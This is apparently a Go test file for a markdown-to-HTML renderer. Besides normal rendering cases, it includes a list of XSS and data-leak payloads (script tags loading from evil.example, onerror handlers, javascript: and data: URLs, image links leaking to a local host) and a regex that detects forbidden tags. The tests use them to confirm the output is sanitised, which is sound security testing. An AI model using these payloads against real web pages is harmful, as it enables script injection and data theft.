package markdown

import (
	"regexp"
	"strings"
	"testing"
)

func TestRender(t *testing.T) {
	link := func(href, text string) string {
		return `<a href="` + href + `" rel="noopener noreferrer nofollow" target="_blank">` + text + `</a>`
	}
	for _, tt := range []struct{ name, src, want string }{
		{"nothing", "", ""},
		{"blank", " \n\n\t\n", ""},
		{"paragraphs", "one\ntwo\n\nthree", "<p>one\ntwo</p>\n<p>three</p>\n"},
		{"headings", "# One\nTwo\n===\nx", "<h1>One</h1>\n<h1>Two</h1>\n<p>x</p>\n"},
		{"inline", "*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n"},
		{"loose list is one list", "- a\n\n- b\n", "<ul>\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ul>\n"},
		{"list from 3", "3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"},
		{"tasks", "- [x] a\n- [ ] b", "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> a</li>\n<li><input disabled=\"\" type=\"checkbox\"> b</li>\n</ul>\n"},
		{"table", "|a|b|\n|:-|-:|\n|1|2|", "<table>\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"left\">1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n"},
		{"code", "```go\nx := \"<b>\" // c\n```\nafter", "<pre tabindex=\"0\" class=\"chroma\" data-lang=\"go\">"},
		{"plain code", "    a < b\n\n    c", "<pre tabindex=\"0\" class=\"chroma\"><code>a &lt; b\n\nc\n</code></pre>\n"},
		{"links", "[a](https://a.b/?x=1&y=2 \"t\") <https://c.d> www.e.de f@g.de", "<p>" + link("https://a.b/?x=1&amp;y=2", "a") + " " + link("https://c.d", "https://c.d") + " " + link("http://www.e.de", "www.e.de") + " " + link("mailto:f@g.de", "f@g.de") + "</p>\n"},
		{"references are shown", "[a][1]\n\n[1]: https://a.b", "<p>[a][1]</p>\n<p>[1]: " + link("https://a.b", "https://a.b") + "</p>\n"},
		{"image", "![a *b*](https://c.d/e.png)", "<p>" + link("https://c.d/e.png", "a b") + "</p>\n"},
		{"image without words", "![](https://c.d/e.png)", "<p>" + link("https://c.d/e.png", "image") + "</p>\n"},
		{"image in a link", "[![a](https://b/c.png)](https://d.e)", "<p>" + link("https://d.e", "a") + "</p>\n"},
		{"reference image", "![a][b]\n\n[b]: http://127.0.0.1:9/p?leak=1", "<p>![a][b]</p>\n<p>[b]: http://127.0.0.1:9/p?leak=1</p>\n"},
		{"line ends", "a\r\nb\rc\r\r\nd", "<p>a\nb\nc</p>\n<p>d</p>\n"},
		{"control characters", "a\x00b\x1bc&#13;d&#0;e", "<p>a�b�c\nd�e</p>\n"},
		{"invalid UTF-8", "a\xffb\xe4\xbd", "<p>a�b�</p>\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := string(whole(t, tt.src))
			if tt.name == "code" {
				if !strings.HasPrefix(got, "<pre tabindex=\"0\" class=\"chroma\" data-lang=\"go\"><code>x") || !strings.Contains(got, `<span class="s">&#34;&lt;b&gt;&#34;</span>`) || !strings.HasSuffix(got, "</code></pre>\n<p>after</p>\n") {
					t.Errorf("got %q", got)
				}
			} else if got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// hostile are texts that try to act on the page (ux reports F1 to F3), also as
// seeds of the fuzz test.
func hostile() []string {
	return []string{
		"<script>alert(1)</script>",
		"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
		"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
		"<img src=x onerror=alert(1)>",
		"<img/src='http://127.0.0.1:9/p?leak=1'>",
		"a <b onclick=alert(1)>b</b> c",
		"<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
		"<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
		"<div hx-get=\"/x\" hx-trigger=\"load\" data-on:load=\"@get('/x')\">x</div>",
		"<p style=\"background:url(http://127.0.0.1:9/p)\">x</p>",
		"<style>@import 'http://127.0.0.1:9/p';</style>",
		"<base href=\"http://evil.example/\"><form action=/t/1/stop><input type=submit></form>",
		"<!-- --><?php x ?><![CDATA[<script>]]>",
		"[x](javascript:alert(1))",
		"[x](JaVaScRiPt:alert(1))",
		"[x](java\tscript:alert(1))",
		"[x](&#106;avascript:alert(1))",
		"[x](\\javascript:alert(1))",
		"[x](<javascript:alert(1)>)",
		"[x](javascript&colon;alert(1))",
		"[x](%6aavascript:alert(1))",
		"[x](data:text/html;base64,PHNjcmlwdD4=)",
		"[x](DATA:text/html,<script>alert(1)</script>)",
		"[x](vbscript:msgbox(1))",
		"[x](//evil.example/) [y](/t/1/delete) [z](../x) [q](?a=b) [h](#run)",
		"[x](http:evil) [y](https:///evil) [z](mailto:)",
		"<javascript:alert(1)> <data:text/html,x>",
		"[x](https://a.b/\" onmouseover=\"alert(1))",
		"[x](https://a.b \"\\\" onmouseover=\\\"alert(1)\")",
		"[x](https://a.b 't\" style=\"x')",
		"![x](javascript:alert(1))",
		"![x\" onerror=\"alert(1)](https://a.b/c.png)",
		"![x](http://127.0.0.1:9/p?leak=secret)",
		"![x][r]\n\n[r]: http://127.0.0.1:9/p?leak=secret",
		"![x]\n\n[x]: http://127.0.0.1:9/p",
		"[![x](http://127.0.0.1:9/p)](javascript:alert(1))",
		"```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
		"```<script>\nx\n```",
		"~~~ x\" style=\"y\ncode\n~~~",
		"`<img src=x onerror=alert(1)>`",
		"| <img src=x onerror=alert(1)> | b |\n|:-\" onclick=x|-|\n| <script> | [x](javascript:1) |",
		"- [x](javascript:1)\n- [ ] <input onfocus=alert(1) autofocus>",
		"# <a href=javascript:alert(1)>x</a> {#id onclick=alert(1)}",
		"a\rdata: <script>\r\revent: x\r",
		"a\r\n\r\nevent: datastar-patch-elements\r\n",
		"<scr\x00ipt>alert(1)</scr\x00ipt>",
		"\x00<img src=x onerror=alert(1)>",
		"&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
		"https://a.b/<script>alert(1)</script> www.a.b/\"onclick=alert(1)",
		"\u2060\u2028\ufeff<script>",
		strings.Repeat("> ", 300) + "deep",
		strings.Repeat("- ", 300) + "deep",
		strings.Repeat("*a **b ", 300),
		strings.Repeat("[", 2000),
		strings.Repeat("![", 1000) + strings.Repeat("](x)", 1000),
	}
}

func TestHostile(t *testing.T) {
	forbidden := regexp.MustCompile(`(?i)<(img|script|iframe|svg|style|form|base|object|embed|link|meta|math|div)|<[^>]*\s(style|on\w+|hx-[\w-]+|data-on[\w:-]*|srcdoc|src)\s*=`)
	for _, src := range hostile() {
		for name, got := range map[string]HTML{"Render": whole(t, src), "Text": Text(src), "Highlight": join(Highlight("a.html", src))} {
			if err := checkHTML(got); err != nil {
				t.Errorf("%s(%.60q): %v in %q", name, src, err, got)
			}
			if m := forbidden.FindString(string(got)); m != "" {
				t.Errorf("%s(%.60q) contains %q", name, src, m)
			}
		}
	}
}

// TestRawHTMLIsText holds that a reader sees what the agent wrote.
func TestRawHTMLIsText(t *testing.T) {
	got := string(whole(t, "a <b x='1'>c</b>\n\n<div>\n**d**\n</div>"))
	want := "<p>a &lt;b x=&#39;1&#39;&gt;c&lt;/b&gt;</p>\n<p>&lt;div&gt;\n<strong>d</strong>\n&lt;/div&gt;</p>\n"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestText(t *testing.T) {
	if got, want := Text("<b>&amp; \"x\"\r\n*y*\x00"), HTML("&lt;b&gt;&amp;amp; &#34;x&#34;\n*y*\uFFFD"); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
